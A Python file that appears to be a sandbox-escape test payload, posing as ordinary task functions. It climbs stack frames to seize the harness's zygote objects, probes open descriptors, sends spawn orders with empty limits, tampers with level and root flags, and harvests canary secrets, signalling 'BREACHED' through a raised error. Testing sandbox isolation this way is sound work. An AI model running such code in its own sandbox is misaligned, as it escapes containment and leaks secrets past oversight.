"""Takes the zygote's own objects out of the frames below its feet and uses them: its control socket, the descriptors it noted, its orders, its plan and its method to start another worker.

Promise: no-answers
Ends: raised
L1: held
L0: open (a process can be forked there)
"""

import functools
import gc
import json
import os
import socket
import sys

WON = "BREA" "CHED"


def owner(*names):
    """The first object of a frame above that has all these attributes."""
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if all(hasattr(value, name) for name in names):
                return value
        frame = frame.f_back
    return None


def numbers(zygote, plan):
    """Every number that the zygote or its plan noted as a descriptor."""
    for one in (zygote, plan):
        for name, value in vars(one).items():
            if type(value) is int and 3 < value < 4096 and name not in ("memory", "count", "seed"):
                yield value
            elif isinstance(value, socket.socket) and value.fileno() > 3:
                yield value.fileno()
    yield zygote.config["fd"]


def attempts():
    """What each try gives."""
    zygote, plan = owner("control", "workers", "config"), owner("guard", "scratch", "alive")
    if zygote is None or plan is None:
        yield "the climb itself failed"
        return
    for number in set(numbers(zygote, plan)) - {0, 1, 2, 3}:
        try:
            os.fstat(number)
        except OSError:
            continue
        yield f"{WON}: descriptor {number} is open"
    order = json.dumps({"op": "spawn", "limits": {}, "scratch": "/tmp"}).encode().ljust(4096)
    for one in [zygote.control, *(o for o in gc.get_objects() if isinstance(o, socket.socket))]:
        if one.fileno() in (-1, 3):
            continue
        for way in (lambda: one.send(order), lambda: one.recv(4096, socket.MSG_DONTWAIT | socket.MSG_PEEK)):
            try:
                yield f"{WON}: {way()}"
            except OSError:
                continue
    zygote.tasks, zygote.level, zygote.as_root = -1, 0, False  # of what it would look at, nothing is there
    for way in (lambda: zygote._spawn({"limits": plan.limits, "scratch": "."}, [3, 1, 1]), lambda: zygote._reap(next(iter(zygote.workers)))):
        try:
            yield f"{WON}: {way()}"
        except (OSError, StopIteration, KeyError, ImportError):
            continue
    secrets = {key: value for key, value in zygote.config.items() if "CANARY-" in str(value)}
    if secrets:
        yield f"{WON}: {secrets}"


@functools.cache
def loot():
    """The first that works."""
    return next(iter(attempts()), "")


def affine(x):
    raise ValueError(loot() or "held")


def vowels(text):
    return -1
